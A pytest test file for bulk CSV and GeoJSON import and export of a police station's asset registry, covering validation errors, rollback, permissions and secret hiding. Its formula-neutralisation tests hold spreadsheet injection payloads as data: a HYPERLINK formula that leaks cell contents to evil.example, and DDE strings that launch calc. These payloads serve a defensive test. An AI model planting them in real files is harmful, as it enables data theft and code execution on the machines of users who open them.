"""Bulk import and export of a station's asset registry, at the service level.

Imports are all-or-nothing: a refused file lists every problem with its line (CSV) or
feature (GeoJSON) and leaves the registry and the audit trail exactly as they were.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from conftest import fresh_db_url
from safetyzone.assets import service as assets
from safetyzone.assets import transfer, transfer_csv
from safetyzone.assets.models import Asset, AssetKind, Camera, CameraBinding
from safetyzone.assets.schemas import AssetCreate, ImportReport, TransferFormat
from safetyzone.audit.models import AuditEntry
from safetyzone.config import Settings
from safetyzone.core.clock import ManualClock
from safetyzone.core.db import Database
from safetyzone.core.errors import (
    InvalidInput,
    NotFound,
    PermissionDenied,
    Problem,
    SafetyZoneError,
)
from safetyzone.core.secretbox import SecretBox
from safetyzone.core.security import Scope, system_scope
from safetyzone.org import auth, zones
from safetyzone.org import service as org
from safetyzone.org.models import OwnerClass, StationType, UnitKind, User
from safetyzone.org.schemas import OrgUnitCreate, PartnerCreate, ZoneCreate
from support.world import World, square

FIXTURES = Path(__file__).parent.parent / "fixtures" / "import"
ADMIN = system_scope("importer")
HEADER = ",".join(("kind", "code", "name_th", "lat", "lon", "zone_code", "owner_class"))
GOOD_KINDS = {"sos_point": 1, "camera_point": 2, "camera": 2, "loudspeaker": 1, "red_box": 1,
              "street_light": 1, "smart_pole": 1, "led_sign": 1, "service_post": 1,
              "checkpoint": 1}


def fixture_text(name: str) -> str:
    return (FIXTURES / name).read_text(encoding="utf-8")


def box(settings: Settings) -> SecretBox:
    return SecretBox(settings.secret_key.get_secret_value())


def import_text(
    db: Database, clock: ManualClock, settings: Settings, text: str, *,
    fmt: TransferFormat = TransferFormat.CSV, scope: Scope = ADMIN, station: str = "ST-A",
) -> ImportReport:
    with db.write() as session:
        if fmt is TransferFormat.CSV:
            return transfer.import_csv(session, scope=scope, clock=clock, secrets=box(settings),
                                       station_code=station, text=text)
        return transfer.import_geojson(session, scope=scope, clock=clock, secrets=box(settings),
                                       station_code=station, data=json.loads(text))


def import_bytes(
    db: Database, clock: ManualClock, settings: Settings, body: bytes,
    fmt: TransferFormat = TransferFormat.CSV,
) -> ImportReport:
    with db.write() as session:
        return transfer.import_file(session, scope=ADMIN, clock=clock, secrets=box(settings),
                                    station_code="ST-A", fmt=fmt, body=body)


def refused(
    db: Database, clock: ManualClock, settings: Settings, text: str,
    fmt: TransferFormat = TransferFormat.CSV,
) -> InvalidInput:
    with pytest.raises(InvalidInput) as caught:
        import_text(db, clock, settings, text, fmt=fmt)
    return caught.value


def registry(db: Database) -> tuple[int, int, int, int]:
    """Row counts that an import could change: assets, cameras, bindings, audit rows."""
    with db.read() as session:
        def count(table: Any) -> int:
            return session.scalar(select(func.count()).select_from(table)) or 0
        return count(Asset), count(Camera), count(CameraBinding), count(AuditEntry)


def where(error: SafetyZoneError) -> set[tuple[int | None, str | None]]:
    return {(p.line, p.field) for p in error.problems}


def export(db: Database, clock: ManualClock, fmt: TransferFormat = TransferFormat.CSV,
           scope: Scope = ADMIN) -> Any:
    with db.read() as session:
        if fmt is TransferFormat.CSV:
            return transfer.export_csv(session, scope=scope, clock=clock, station_code="ST-A")
        return transfer.export_geojson(session, scope=scope, clock=clock, station_code="ST-A")


def user_scope(db: Database, username: str) -> Scope:
    with db.read() as session:
        user = session.scalars(select(User).where(User.username == username)).one()
        return auth.scope_for(session, user)


def test_good_csv_creates_every_row_with_bindings_secrets_and_one_audit_row(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    before = registry(db)
    report = import_text(db, clock, settings, fixture_text("good.csv"))
    assert report.created == 12
    assert report.kind_counts == GOOD_KINDS
    assert (report.station_code, report.format) == ("ST-A", TransferFormat.CSV)
    assets_, cameras, bindings, audits = registry(db)
    # 10 assets + 2 cameras, each with its own audit row, plus one row for the import.
    assert (assets_, cameras, bindings, audits) == (
        before[0] + 10, before[1] + 2, before[2] + 2, before[3] + 12 + 1)
    with db.write() as session:
        sos = session.scalars(select(Asset).where(Asset.code == "IMP-SOS-01")).one()
        assert sos.note == "ติดตั้งปี 2568\nลำโพงในตัว"  # the quoted two-line cell
        assert sos.has_speaker
        codes = dict(session.execute(select(Camera.id, Camera.code)).all())
        bound = [codes[i] for i in assets.bound_camera_ids(session, sos.id)]
        assert bound == ["IMP-CAM-01", "IMP-CAM-02"]  # listed before the cameras, in order
        cam2 = session.scalars(select(Camera).where(Camera.code == "IMP-CAM-02")).one()
        point2 = session.scalars(select(Asset).where(Asset.code == "IMP-CP-02")).one()
        assert (cam2.lat, cam2.lon) == (point2.lat, point2.lon)  # empty lat/lon: the point's
        assert cam2.owner_partner_id == point2.owner_partner_id is not None
        assert cam2.sharing_until is not None and cam2.sharing_until.isoformat() == (
            "2026-12-31T16:59:59+00:00")
        cam1 = session.scalars(select(Camera).where(Camera.code == "IMP-CAM-01")).one()
        secret = assets.read_stream_secret(session, scope=ADMIN, clock=clock,
                                           secrets=box(settings), camera_id=cam1.id,
                                           reason="test the sealed import")
        assert (secret.stream_url, secret.stream_password) == (
            "rtsp://cam01.example.invalid/stream1", "s3cret-01")
        entry = session.scalars(select(AuditEntry).where(
            AuditEntry.action == "asset.import")).one()
        assert entry.username == "importer"
        assert entry.station_id == sos.station_id
        assert entry.detail == {"format": "csv", "created": 12, "kind_counts": GOOD_KINDS}


def test_bad_csv_lists_every_problem_on_its_line_and_stores_nothing(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    before = registry(db)
    error = refused(db, clock, settings, fixture_text("bad.csv"))
    assert error.detail == "9 rows refused; nothing was imported"
    assert where(error) == {
        (1, "colour"),  # unknown column
        (3, "position"),  # swapped lat/lon
        (4, "owner_class"),  # unknown owner class, on a row whose note spans lines 4-6
        (7, "code"),  # duplicate of line 2
        (8, "code"),  # duplicate of an existing asset
        (9, "lat"),  # "13,73"
        (10, "kind"),  # drone
        (11, "point_code"),  # no such camera point
        (12, "has_speaker"),  # maybe
        (13, "lat"),  # outside the zone
    }
    reasons = {p.line: p.reason for p in error.problems}
    assert "swapped" in reasons[3]
    assert "'shop'" in reasons[4] and "private_business" in reasons[4]
    assert "line 2" in reasons[7]
    assert "already used at this station" in reasons[8]
    assert "outside zone" in reasons[13]
    assert registry(db) == before  # line 2 was fine, and is not stored either


def test_a_caller_that_swallows_the_refusal_still_stores_nothing(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    before = registry(db)
    # The write block commits: the import must undo its own work.
    with db.write() as session, pytest.raises(InvalidInput):
        transfer.import_csv(session, scope=ADMIN, clock=clock, secrets=box(settings),
                            station_code="ST-A", text=fixture_text("bad.csv"))
    assert registry(db) == before


def test_a_row_refused_half_way_leaves_nothing_for_the_next_rows(
    db: Database, clock: ManualClock, settings: Settings, world: World,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """A service that fails after writing (flushed rows, an audit row) is rolled back per row."""
    real = assets.create_asset

    def fails_after_writing(session: Session, **kwargs: Any) -> Asset:
        asset = real(session, **kwargs)
        session.flush()
        if asset.code == "HALF-1":
            raise InvalidInput("failed after writing", [Problem("late check", "note")])
        return asset

    monkeypatch.setattr(assets, "create_asset", fails_after_writing)
    before = registry(db)
    text = "\n".join((
        f"{HEADER},point_code",
        "camera_point,HALF-1,จุดกล้อง,13.7300,100.4700,Z-ST-A,police,",
        "camera,HALF-CAM,กล้อง,,,,,HALF-1",  # would find the half-written point
        "red_box,HALF-2,ตู้แดง,13.7301,100.4701,Z-ST-A,police,",
    ))
    error = refused(db, clock, settings, text)
    assert [(p.line, p.field, p.reason) for p in error.problems] == [
        (2, "note", "failed after writing"),
        (3, "point_code", "camera point 'HALF-1' (line 2) was refused"),
    ]
    assert registry(db) == before


def test_duplicate_codes_in_the_file_and_against_existing_rows(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    text = "\n".join((
        HEADER,
        "red_box,DUP-1,ตู้แดง 1,13.7300,100.4700,Z-ST-A,police",
        "red_box,DUP-1,ตู้แดง 2,13.7301,100.4701,Z-ST-A,police",
        "camera_point,ST-A-POLICE-P1,จุดกล้องซ้ำ,13.7302,100.4702,Z-ST-A,police",
        # A camera and an asset live in separate registers: the same code is no clash.
        "camera,DUP-1,กล้อง,,,,",
        # ...but a camera code that exists at the station is.
        "camera,ST-A-POLICE-P1-C1,กล้องซ้ำ,,,,",
    )) + "\n"
    error = refused(db, clock, settings, text)
    assert where(error) == {(3, "code"), (4, "code"), (5, "point_code"), (6, "point_code")}
    reasons = {p.line: p.reason for p in error.problems}
    assert reasons[3] == "code 'DUP-1' is already used on line 2 of this file"
    assert reasons[4] == "asset code 'ST-A-POLICE-P1' is already used at this station"
    # No point_code given: the camera rows say so rather than guessing.
    assert "Field required" in reasons[5]


def test_existing_camera_code_is_a_conflict(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    text = (f"{HEADER},point_code\n"
            "camera,ST-A-POLICE-P1-C1,กล้องซ้ำ,,,,,ST-A-POLICE-P1\n")
    error = refused(db, clock, settings, text)
    assert [(p.line, p.field, p.reason) for p in error.problems] == [
        (2, "code", "camera code 'ST-A-POLICE-P1-C1' is already used at this station")]


def test_swapped_position_and_unknown_owner_class_are_named(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    text = (f"{HEADER}\nred_box,SW-1,ตู้แดง,100.4700,13.7300,,police\n"
            "red_box,OC-1,ตู้แดง,13.7300,100.4700,,landlord\n")
    error = refused(db, clock, settings, text)
    assert error.detail == "2 rows refused; nothing was imported"
    swapped, owner = error.problems
    assert (swapped.line, owner.line, owner.field) == (2, 3, "owner_class")
    assert "swapped" in swapped.reason
    assert "landlord" in owner.reason


def test_a_row_leaning_on_a_refused_row_says_so(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    text = "\n".join((
        f"{HEADER},point_code,bound_camera_codes",
        "sos_point,L-SOS,SOS,13.7300,100.4700,Z-ST-A,police,,L-CAM",
        "camera_point,L-CP,จุดกล้อง,13.9,100.4700,Z-ST-A,police,,",  # outside the zone
        "camera,L-CAM,กล้อง,,,,,L-CP,",
        "sos_point,L-SOS2,SOS,13.7301,100.4701,Z-ST-A,police,,L-CAM;L-CAM",
        "red_box,L-RB,ตู้แดง,13.7302,100.4702,Z-ST-A,police,,ST-A-POLICE-P1-C1",
    ))
    error = refused(db, clock, settings, text)
    reasons = {(p.line, p.field): p.reason for p in error.problems}
    assert reasons == {
        (2, "bound_camera_codes[0]"): "camera 'L-CAM' (line 4) was refused",
        (3, "lat"): "(13.9, 100.47) lies outside zone 'Z-ST-A'",
        (4, "point_code"): "camera point 'L-CP' (line 3) was refused",
        (5, "bound_camera_codes"): "camera 'L-CAM' is listed twice",
        (6, "bound_camera_codes"): "only SOS points have bound cameras",
    }


def test_columns_of_the_other_kind_and_cells_without_a_column_are_refused(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    text = "\n".join((
        f"{HEADER},heading_deg,note",
        "red_box,X-1,ตู้แดง,13.7300,100.4700,,police,90,",
        "camera,X-2,กล้อง,,,,,,โน้ต",
        "red_box,X-3,ตู้แดง,13.7300,100.4700,,police,,,extra",
        "red_box,X-4,ตู้แดง,nan,100.4700,,police,,",
        "red_box,X-5,ตู้แดง,13.7300,100.4700,,police,,,,",  # empty trailing cells are fine
    ))
    error = refused(db, clock, settings, text)
    assert {(p.line, p.field, p.reason) for p in error.problems} >= {
        (2, "heading_deg", "not used for kind 'red_box'"),
        (3, "note", "not used for kind 'camera'"),
        (4, None, "cell 10 has no column name in the header"),
        (5, "lat", "not a finite number"),
    }
    assert {p.line for p in error.problems} == {2, 3, 4, 5}


@pytest.mark.parametrize(("body", "detail"), [
    (b"", "the file is empty"),
    (b" \r\n\r\n", "the file is empty"),
    (b"kind,code,name_th\n", "the file has a header but no rows"),
    (b"kind,code\nred_box,X\n", "the header was refused; nothing was imported"),
    (b"kind,code,name_th,code\nred_box,X,Y,Z\n", "the header was refused; nothing was imported"),
    ("kind,code,name_th\nred_box,X,ตู้".encode("cp874"),
     "the file is not UTF-8 text (in Excel save it as 'CSV UTF-8')"),
    ("kind,code\n".encode("utf-16"),
     "the file is not UTF-8 text (in Excel save it as 'CSV UTF-8')"),
    (b"kind,code,name_th\nred_box,\x00\x01\x02,x\n",
     "1 line(s) hold NUL characters: is the file binary?"),
    (b'kind,code,name_th\nred_box,"X,Y\n', "the file is not valid CSV; nothing was imported"),
], ids=["empty", "blank", "header-only", "missing-column", "repeated-column", "tis-620",
        "utf-16", "binary", "open-quote"])
def test_garbage_csv_is_refused_clearly(
    db: Database, clock: ManualClock, settings: Settings, world: World, body: bytes,
    detail: str,
) -> None:
    before = registry(db)
    with pytest.raises(InvalidInput) as caught:
        import_bytes(db, clock, settings, body)
    assert caught.value.detail == detail
    assert caught.value.problems
    assert registry(db) == before


def test_not_utf8_names_the_line(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    body = "kind,code,name_th\nred_box,RB-1,ok\nred_box,RB-2,ตู้แดง\n".encode("cp874")
    with pytest.raises(InvalidInput) as caught:
        import_bytes(db, clock, settings, body)
    assert caught.value.problems[0].line == 3


@pytest.mark.parametrize(("body", "detail"), [
    (b"{", "the file is not JSON"),
    (b"[" * 100_000, "the file is not JSON"),
    (b"[]", "the file is not a GeoJSON FeatureCollection"),
    (b'{"type": "Feature", "properties": {}}', "the file is not a GeoJSON FeatureCollection"),
    (b'{"type": "FeatureCollection"}', "the FeatureCollection has no 'features' list"),
    (b'{"type": "FeatureCollection", "features": []}', "the FeatureCollection has no features"),
], ids=["truncated", "deep", "list", "feature", "no-features", "empty"])
def test_garbage_geojson_is_refused_clearly(
    db: Database, clock: ManualClock, settings: Settings, world: World, body: bytes,
    detail: str,
) -> None:
    with pytest.raises(InvalidInput) as caught:
        import_bytes(db, clock, settings, body, TransferFormat.GEOJSON)
    assert caught.value.detail == detail


def test_more_than_50000_rows_are_refused_before_any_work(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    rows = "".join(f"red_box,RB-{i},ตู้แดง,13.73,100.47,,police\n" for i in range(50_001))
    error = refused(db, clock, settings, f"{HEADER}\n{rows}")
    assert "at most 50000" in error.detail
    features: list[object] = [{"type": "Feature", "geometry": None}] * 50_001
    error = refused(db, clock, settings, json.dumps(
        {"type": "FeatureCollection", "features": features}), TransferFormat.GEOJSON)
    assert "at most 50000" in error.detail


def test_a_byte_order_mark_is_accepted(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    body = b"\xef\xbb\xbf" + (FIXTURES / "good.csv").read_bytes()
    assert import_bytes(db, clock, settings, body).created == 12
    text = "\ufeff" + HEADER + "\nred_box,BOM-1,ตู้แดง,13.73,100.47,,police\n"
    assert import_text(db, clock, settings, text).kind_counts == {"red_box": 1}


def test_good_geojson_creates_every_feature(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    report = import_text(db, clock, settings, fixture_text("good.geojson"),
                         fmt=TransferFormat.GEOJSON)
    assert report.kind_counts == {"camera_point": 1, "red_box": 1, "camera": 2, "sos_point": 1}
    with db.read() as session:
        cams = {c.code: c for c in session.scalars(select(Camera).where(
            Camera.code.like("GJ-%")))}
        assert (cams["GJ-CAM-01"].lat, cams["GJ-CAM-01"].lon) == (13.7322, 100.4702)
        assert (cams["GJ-CAM-02"].lat, cams["GJ-CAM-02"].lon) == (13.7323, 100.4703)
        assert cams["GJ-CAM-01"].plate_reading
        sos = session.scalars(select(Asset).where(Asset.code == "GJ-SOS-01")).one()
        assert assets.bound_camera_ids(session, sos.id) == [
            cams["GJ-CAM-01"].id, cams["GJ-CAM-02"].id]
        entry = session.scalars(select(AuditEntry).where(
            AuditEntry.action == "asset.import")).one()
        assert entry.detail["format"] == "geojson"


def test_bad_geojson_names_every_feature_and_property(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    before = registry(db)
    error = refused(db, clock, settings, fixture_text("bad.geojson"), TransferFormat.GEOJSON)
    assert error.detail == "7 rows refused; nothing was imported"
    reasons = {p.field: p.reason for p in error.problems}
    assert set(reasons) == {
        "features[1].geometry", "features[2].owner_class", "features[3].geometry",
        "features[4].colour", "features[5].geometry", "features[6]", "features[7].code",
        "features[7].has_speaker",
    }
    assert reasons["features[1].geometry"] == "geometry must be a Point, not LineString"
    assert "landlord" in reasons["features[2].owner_class"]
    assert "only cameras may omit it" in reasons["features[3].geometry"]
    assert "swapped" in reasons["features[5].geometry"]
    assert "features[0]" in reasons["features[7].code"]
    assert all(p.line is None for p in error.problems)
    assert registry(db) == before


def test_station_outside_the_scope_looks_missing_and_viewers_may_not_import(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    text = fixture_text("good.csv")
    with pytest.raises(NotFound):
        import_text(db, clock, settings, text, scope=user_scope(db, "a.commander"),
                    station="ST-B")
    with pytest.raises(PermissionDenied):
        import_text(db, clock, settings, text, scope=user_scope(db, "a.viewer"))
    with pytest.raises(NotFound):
        export(db, clock, scope=user_scope(db, "b.operator"))


def test_a_partner_imports_and_exports_only_its_own(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    shop = user_scope(db, "a.shop")
    text = (f"{HEADER}\ncamera_point,SHOP-CP-9,จุดกล้องร้าน,13.7300,100.4700,Z-ST-A,"
            "private_business\n")
    assert import_text(db, clock, settings, text, scope=shop).created == 1
    codes = {line.split(",")[1] for line in export(db, clock, scope=shop).splitlines()[1:]}
    assert codes == {"ST-A-SHOP-P1", "ST-A-SHOP-P1-C1", "SHOP-CP-9"}
    other = (f"{HEADER},owner_partner_code\ncamera_point,SHOP-CP-10,จุดกล้อง,13.7300,100.4700,"
             "Z-ST-A,private_business,SHOP-ST-B\n")
    with pytest.raises(InvalidInput) as caught:
        import_text(db, clock, settings, other, scope=shop)
    assert [(p.line, p.reason) for p in caught.value.problems] == [
        (2, "no partner with code 'SHOP-ST-B' in your scope")]


def test_export_keeps_thai_and_hides_stream_secrets(
    db: Database, clock: ManualClock, settings: Settings, world: World
) -> None:
    import_text(db, clock, settings, fixture_text("good.csv"))
    text = export(db, clock)
    assert "ตู้แดง หน้าวัดโพธิ์" in text
    assert "\"ติดตั้งปี 2568\nลำโพงในตัว\"" in text
    assert "rtsp://" not in text and "s3cret" not in text
    collection = export(db, clock, TransferFormat.GEOJSON)
    names = {f["properties"]["name_th"] for f in collection["features"]}
    assert "เสา SOS หน้าตลาดสด" in names
    assert not any(f["properties"].get("stream_url") for f in collection["features"])


@pytest.fixture
def other_db(backend: str, request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Database]:
    """A second, empty database on the same backend, holding only ST-A's organisation."""
    database = Database(fresh_db_url(backend, request, tmp_path, with_world=False))
    clock = ManualClock()
    with database.write() as s:
        for code, kind, parent in (("HQ", UnitKind.NATIONAL, None),
                                   ("REG-1", UnitKind.REGION, "HQ"),
                                   ("PROV-1", UnitKind.PROVINCE, "REG-1")):
            org.create_unit(s, scope=ADMIN, clock=clock, data=OrgUnitCreate(
                code=code, kind=kind, parent_code=parent, name_th=code, name_en=code))
        org.create_unit(s, scope=ADMIN, clock=clock, data=OrgUnitCreate(
            code="ST-A", kind=UnitKind.STATION, parent_code="PROV-1", name_th="สถานี ก",
            name_en="Station A", station_type=StationType.PROVINCIAL, lat=13.73, lon=100.47))
        zones.create_zone(s, scope=ADMIN, clock=clock, data=ZoneCreate(
            code="Z-ST-A", station_code="ST-A", name_th="โซน ก", name_en="Zone A",
            boundary=square(13.73, 100.47)))
        org.create_partner(s, scope=ADMIN, clock=clock, data=PartnerCreate(
            code="SHOP-ST-A", org_unit_code="ST-A", name_th="ร้านค้า",
            owner_class=OwnerClass.PRIVATE_BUSINESS))
    yield database
    database.dispose()


@pytest.mark.parametrize("fmt", list(TransferFormat))
def test_export_then_import_into_another_database_round_trips(
    db: Database, other_db: Database, clock: ManualClock, settings: Settings, world: World,
    fmt: TransferFormat,
) -> None:
    import_text(db, clock, settings, fixture_text("good.csv"))
    import_text(db, clock, settings, fixture_text("good.geojson"), fmt=TransferFormat.GEOJSON)
    exported = export(db, clock, fmt)
    text = exported if fmt is TransferFormat.CSV else json.dumps(exported, ensure_ascii=False)
    report = import_text(other_db, clock, settings, text, fmt=fmt)
    with db.read() as session:
        assert report.kind_counts == assets.counts_by_kind(
            session, scope=ADMIN, station_id=org.get_station(session, scope=ADMIN,
                                                             code="ST-A").id)
    assert export(other_db, clock, fmt) == exported


# Text a spreadsheet would run as a formula, as a partner might type it into a name or note.
FORMULAS = {
    "name_th": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "name_en": "+1+cmd|' /C calc'!A0",
    "note": "-2+3",
}
STORED_QUOTES = "'=already quoted by a person"  # must come back with its own quote


def test_formula_text_is_neutralised_on_export_and_restored_on_import(
    db: Database, other_db: Database, clock: ManualClock, settings: Settings, world: World,
) -> None:
    with db.write() as session:
        for code, name_th, name_en, note in (
                ("F-1", FORMULAS["name_th"], FORMULAS["name_en"], FORMULAS["note"]),
                ("F-2", "@SUM(1+1)*cmd|' /C calc'!A0", STORED_QUOTES, "''+two quotes"),
                ("F-3", "plain name", "a = b - c", "it's fine")):
            assets.create_asset(session, scope=ADMIN, clock=clock, data=AssetCreate(
                station_code="ST-A", zone_code="Z-ST-A", kind=AssetKind.RED_BOX, code=code,
                name_th=name_th, name_en=name_en, lat=13.7301, lon=100.4702,
                owner_class=OwnerClass.POLICE, note=note))
    exported = export(db, clock)
    rows = {r["code"]: r for r in csv.DictReader(io.StringIO(exported))}
    assert rows["F-1"]["name_th"] == "'" + FORMULAS["name_th"]
    assert rows["F-1"]["name_en"] == "'" + FORMULAS["name_en"]
    assert rows["F-1"]["note"] == "'-2+3"
    assert rows["F-2"]["name_th"].startswith("'@SUM")
    assert rows["F-2"]["name_en"] == "'" + STORED_QUOTES
    assert rows["F-2"]["note"] == "'''+two quotes"
    assert (rows["F-3"]["name_th"], rows["F-3"]["name_en"]) == ("plain name", "a = b - c")
    assert rows["F-3"]["note"] == "it's fine"
    # No cell of the file starts a formula; numbers stay numbers.
    for row in rows.values():
        assert not any(cell[:1] in transfer_csv.FORMULA_START for cell in row.values()), row
    assert all((rows[c]["lat"], rows[c]["lon"]) == ("13.7301", "100.4702") for c in ("F-1", "F-3"))

    report = import_text(other_db, clock, settings, exported)
    assert report.created >= 3
    with other_db.read() as session:
        stored = {a.code: (a.name_th, a.name_en, a.note)
                  for a in session.scalars(select(Asset).where(Asset.code.like("F-%")))}
    assert stored == {
        "F-1": (FORMULAS["name_th"], FORMULAS["name_en"], FORMULAS["note"]),
        "F-2": ("@SUM(1+1)*cmd|' /C calc'!A0", STORED_QUOTES, "''+two quotes"),
        "F-3": ("plain name", "a = b - c", "it's fine"),
    }
    assert export(other_db, clock) == exported


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("'=x", "''=x"), ("''-x", "'''-x"), ("'x", "'x"), ("'", "'"), ("", ""),
    ("x=1", "x=1"), ("ตู้แดง", "ตู้แดง"), (-12.5, "-12.5"), (-3, "-3"), (13.73, "13.73"),
    (True, "true"), (None, ""), (["=A1", "B2"], "'=A1;B2"),
])
def test_each_cell_is_neutralised_and_restored_exactly(value: object, cell: str) -> None:
    assert transfer_csv.csv_cell(value) == cell
    if isinstance(value, str):
        assert transfer_csv.restore(cell) == value


def test_a_hand_written_quote_before_a_formula_is_taken_off_and_others_kept(
    db: Database, clock: ManualClock, settings: Settings, world: World,
) -> None:
    text = (f"{HEADER},note\nred_box,Q-1,'=not a formula,13.7301,100.4702,Z-ST-A,police,"
            "'it's mine\n")
    import_text(db, clock, settings, text)
    with db.read() as session:
        asset = session.scalars(select(Asset).where(Asset.code == "Q-1")).one()
    assert (asset.name_th, asset.lat, asset.note) == ("=not a formula", 13.7301, "'it's mine")
